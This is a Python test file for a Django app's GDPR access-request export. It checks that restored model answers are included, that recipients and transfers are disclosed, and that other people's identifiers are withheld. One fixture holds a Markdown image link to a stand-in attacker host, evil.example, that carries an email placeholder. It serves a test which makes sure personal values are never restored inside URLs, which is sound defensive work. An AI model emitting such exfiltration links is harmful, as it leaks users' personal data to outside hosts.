"""What an access copy holds and tells (GDPR Art. 15), as a DPO reviewer checked it: the
model's answers about the person, how each recipient got the data, the categories, the
transfer safeguards, automated decisions, who to contact, and nobody else's identifiers."""

import html
import io
import json
import zipfile

import pytest
from django.core.checks import run_checks
from django.urls import reverse
from django.utils import timezone

from chat.models import SubjectMention
from privacy import archive
from privacy.models import SubjectRequest
from privacy.scope import digest_of
from tests.privacy.conftest import make_conversation, mention

JANE = "jane.roe@example.org"
BOB = "bob@example.net"
THIRD_PHONE = "+44 20 7946 0111"


def _request(*, identifiers, subject_user=None) -> SubjectRequest:
    """An access request about ``identifiers`` (and ``subject_user``'s account, if any)."""
    return SubjectRequest.objects.create(
        reference=f"DSR-2026-{SubjectRequest.objects.count() + 1:04d}",
        kind=SubjectRequest.Kind.ACCESS,
        regime=SubjectRequest.Regime.GDPR,
        subject_user=subject_user,
        digests=sorted({digest_of(kind, value) for kind, value in identifiers}),
        received_on=timezone.localdate(),
        due_on=timezone.localdate(),
    )


def _copy(request: SubjectRequest, recipients=()) -> tuple[dict, str]:
    """The copy ``archive.build`` makes: ``data.json`` read, and ``summary.html``'s text as
    a browser shows it (entities unescaped)."""
    sealed, _ = archive.build(request, recipients=list(recipients), progress=lambda done: None)
    request.archive_sealed = sealed
    with zipfile.ZipFile(io.BytesIO(archive.open_archive(request))) as bundle:
        summary = html.unescape(bundle.read("summary.html").decode())
        return json.loads(bundle.read("data.json")), summary


def _pseudonymised(conversation, **values) -> None:
    """Give ``conversation`` placeholders: ``EMAIL_1="ann@…"`` makes ``[EMAIL_1]`` stand for it."""
    conversation.set_pseudonyms(
        {
            "values": {f"[{label}]": value for label, value in values.items()},
            "keys": {f"EMAIL_ADDRESS:{value}": f"[{label}]" for label, value in values.items()},
            "counters": {"EMAIL": len(values)},
        }
    )
    conversation.save(update_fields=["pseudonyms_sealed"])


# --- 1. the model's answers -------------------------------------------------------------


def test_a_copy_holds_the_models_answers_that_name_the_person_once_placeholders_are_restored(
    org,
):
    """The subject index covers what people wrote; an answer that names the person (as a
    placeholder the model echoed) is theirs too. Answers that do not name them stay out."""
    carol = make_conversation(
        org.carol,
        org.confidential,
        texts=(
            f"Draft a note to {org.alice.email} about the move.",
            "Here is a note to [EMAIL_1]: the move is on Monday.",
            "Shorter, please.",
            "The move is on Monday.",
        ),
    )
    _pseudonymised(carol, EMAIL_1=org.alice.email)
    mention(carol, "EMAIL_ADDRESS", org.alice.email)

    data, summary = _copy(_request(identifiers=[("email", org.alice.email)]))

    answers = [m for m in data["mentions"] if "answer" in m]
    assert [m["answer"] for m in answers] == [
        f"Here is a note to {org.alice.email}: the move is on Monday."
    ]
    assert answers[0]["identifier_kind"] == "EMAIL_ADDRESS"
    assert "The move is on Monday." not in json.dumps(data["mentions"])
    assert f"Here is a note to {org.alice.email}" in summary
    assert "the model’s answer" in summary


def test_a_copy_puts_values_back_in_the_persons_answers_but_never_inside_an_address(org):
    """As the person's own export: a model's link carrying a placeholder keeps it there (a
    viewer that renders data.json's Markdown would otherwise send the value away)."""
    own = make_conversation(
        org.alice,
        org.internal,
        texts=(
            "Where do I send the form?",
            "Send it to [EMAIL_1]. ![x](https://evil.example/p.png?e=[EMAIL_1])",
        ),
    )
    _pseudonymised(own, EMAIL_1=JANE)

    data, _ = _copy(_request(identifiers=[], subject_user=org.alice))

    (conversation,) = data["conversations"]
    answer = conversation["messages"][1]["text"]
    assert answer == f"Send it to {JANE}. ![x](https://evil.example/p.png?e=[EMAIL_1])"


# --- 2. in clear or pseudonymised ----------------------------------------------------------

RECIPIENTS = [
    {"backend": "Local Ollama", "hosting_class": "on_prem", "region": "", "calls": 3,
     "in_clear": 0},
    {"backend": "OpenAI business API", "hosting_class": "external_api", "region": "us-east",
     "calls": 4, "in_clear": 2},
]  # fmt: skip


def test_each_recipient_is_told_whether_it_got_the_data_in_clear_or_pseudonymised(org):
    data, summary = _copy(_request(identifiers=[("email", JANE)]), RECIPIENTS)
    told = {r["backend"]: r for r in data["about"]["recipients"]}
    assert told["OpenAI business API"]["in_clear"] == 2
    assert told["OpenAI business API"]["how_sent"] == (
        "2 of 4 messages with your data in clear; 2 with it replaced by placeholders"
    )
    assert told["Local Ollama"]["how_sent"] == (
        "all 3 messages with your data replaced by placeholders"
    )
    assert "2 of 4 messages with your data in clear" in summary
    assert "all 3 messages with your data replaced by placeholders" in summary


# --- 3. categories, transfers, automated decisions ------------------------------------------


def test_a_copy_names_the_categories_of_data_the_transfer_safeguards_and_automated_decisions(
    org,
):
    """Art. 15(1)(b), 15(2) and 15(1)(h)."""
    carol = make_conversation(
        org.carol, org.confidential, texts=(f"Call {JANE} on +44 20 7946 0958.", "Done.")
    )
    mention(carol, "EMAIL_ADDRESS", JANE)
    mention(carol, "PHONE_NUMBER", "+44 20 7946 0958")
    request = _request(identifiers=[("email", JANE), ("phone", "+44 20 7946 0958")])

    data, summary = _copy(request, RECIPIENTS)

    about = data["about"]
    assert about["categories"]["identifiers"] == ["email address", "phone number"]
    transfers = {t["backend"]: t for t in about["transfers"]}
    assert transfers["OpenAI business API"]["region"] == "us-east"
    assert transfers["OpenAI business API"]["hosting"] == "external API"
    safeguard = transfers["OpenAI business API"]["safeguard"]
    assert "documented by the organisation's privacy team" in safeguard
    assert "contractual clauses" not in json.dumps(about).lower()
    assert (
        "no decisions with legal or similarly significant effects" in about["automated_decisions"]
    )
    for words in (
        "What kinds of data",
        "email address, phone number",
        "Transfers outside the EU/EEA",
        "documented by the organisation's privacy team",
        "Automated decisions",
        "only routes them",
    ):
        assert words in summary, words


# --- 4. the contact -----------------------------------------------------------------------


def test_a_copy_without_a_contact_never_points_at_one_and_speaks_to_an_outsider_as_one(
    org, settings
):
    settings.STEWARD_PRIVACY_CONTACT = ""
    data, summary = _copy(_request(identifiers=[("email", JANE)]))
    assert data["about"]["contact"] == ""
    assert "contact above" not in json.dumps(data) and "contact above" not in summary
    # Jane is an outside client: Steward's users are not her colleagues nor her company.
    assert "Your company's privacy team" not in summary and "Colleagues" not in summary
    assert "the privacy team of the organisation that sent you this copy" in summary

    staff, staff_summary = _copy(
        _request(identifiers=[("email", org.alice.email)], subject_user=org.alice)
    )
    assert "contact above" not in staff_summary
    assert "Your company's privacy team" in staff_summary


def test_a_copy_with_a_contact_points_at_it(org, settings):
    settings.STEWARD_PRIVACY_CONTACT = "Example Ltd, DPO, dpo@example.com"
    data, summary = _copy(_request(identifiers=[("email", JANE)]))
    assert "dpo@example.com" in data["about"]["audit_retention"]
    assert "Names and IP addresses in events" in data["about"]["audit_retention"]
    assert "write to Example Ltd, DPO, dpo@example.com" in summary


def test_check_deploy_warns_when_no_privacy_contact_is_set(settings):
    settings.STEWARD_PRIVACY_CONTACT = ""
    warned = [m for m in run_checks(include_deployment_checks=True) if m.id == "steward.W201"]
    assert len(warned) == 1 and "STEWARD_PRIVACY_CONTACT" in warned[0].msg
    assert not [m for m in run_checks() if m.id == "steward.W201"]  # only under --deploy
    settings.STEWARD_PRIVACY_CONTACT = "Example Ltd, DPO, dpo@example.com"
    assert not [m for m in run_checks(include_deployment_checks=True) if m.id == "steward.W201"]


# --- 5. other people's identifiers ---------------------------------------------------------


def test_an_outsiders_copy_withholds_the_other_peoples_identifiers_in_a_message(org):
    """Jane's copy held Alice's address (Art. 15(4)): two people's identifiers in one
    message, and only Jane's stay."""
    carol = make_conversation(
        org.carol,
        org.confidential,
        texts=(
            f"{JANE} complained; {org.alice.email} will call her from {THIRD_PHONE}.",
            "Noted.",
        ),
    )
    mention(carol, "EMAIL_ADDRESS", JANE)

    data, summary = _copy(_request(identifiers=[("email", JANE)]))

    (told,) = data["mentions"]
    assert told["text"] == (
        f"{JANE} complained; [another person's email address] will call her from "
        "[another person's phone number]."
    )
    for page in (json.dumps(data), summary):
        assert org.alice.email not in page and THIRD_PHONE not in page
    assert JANE in summary and "[another person's email address]" in summary


def test_a_staff_members_copy_withholds_the_others_named_beside_them(org):
    """Alice's copy held Bob's whole message naming her and others; her own address stays,
    in his message and in the model's answer to it."""
    bob = make_conversation(
        org.carol,
        org.internal,
        texts=(f"Ask {org.alice.email} and {BOB} to swap shifts.", "Ask [EMAIL_1] and [EMAIL_2]."),
    )
    _pseudonymised(bob, EMAIL_1=org.alice.email, EMAIL_2=BOB)
    mention(bob, "EMAIL_ADDRESS", org.alice.email)

    data, _ = _copy(_request(identifiers=[("email", org.alice.email)], subject_user=org.alice))

    texts = [m.get("text") or m.get("answer") for m in data["mentions"]]
    assert texts == [
        f"Ask {org.alice.email} and [another person's email address] to swap shifts.",
        f"Ask {org.alice.email} and [another person's email address].",
    ]


def test_a_title_naming_someone_else_beside_the_person_withholds_them(org):
    carol = make_conversation(org.carol, org.internal, texts=("Hello", "Hi"))
    carol.title = f"{JANE} and {BOB}"
    carol.save(update_fields=["title_sealed"])
    SubjectMention.objects.create(
        digest=digest_of("email", JANE), kind="EMAIL_ADDRESS", conversation=carol, message=None
    )

    data, _ = _copy(_request(identifiers=[("email", JANE)]))
    assert data["mentions"][0]["title"] == f"{JANE} and [another person's email address]"


# --- 6. which law, for one's own request -----------------------------------------------------


@pytest.mark.parametrize(
    ("posted", "regime", "days"),
    [({}, SubjectRequest.Regime.GDPR, None), ({"regime": "ccpa"}, SubjectRequest.Regime.CCPA, 45)],
)
def test_staff_choose_the_law_their_own_request_is_made_under(
    client, org, officers, posted, regime, days
):
    client.force_login(org.alice)
    page = client.get(reverse("privacy:mine")).text
    assert "CCPA/CPRA" in page and "California" in page
    client.post(reverse("privacy:mine"), {"kind": "access", **posted})
    own = SubjectRequest.objects.get(subject_user=org.alice)
    assert own.regime == regime
    if days:
        assert (own.due_on - own.received_on).days == days


def test_an_unknown_law_is_refused_in_words(client, org, officers):
    client.force_login(org.alice)
    response = client.post(
        reverse("privacy:mine"), {"kind": "access", "regime": "lgpd"}, follow=True
    )
    assert not SubjectRequest.objects.filter(subject_user=org.alice).exists()
    assert "Choose GDPR or CCPA/CPRA" in response.text
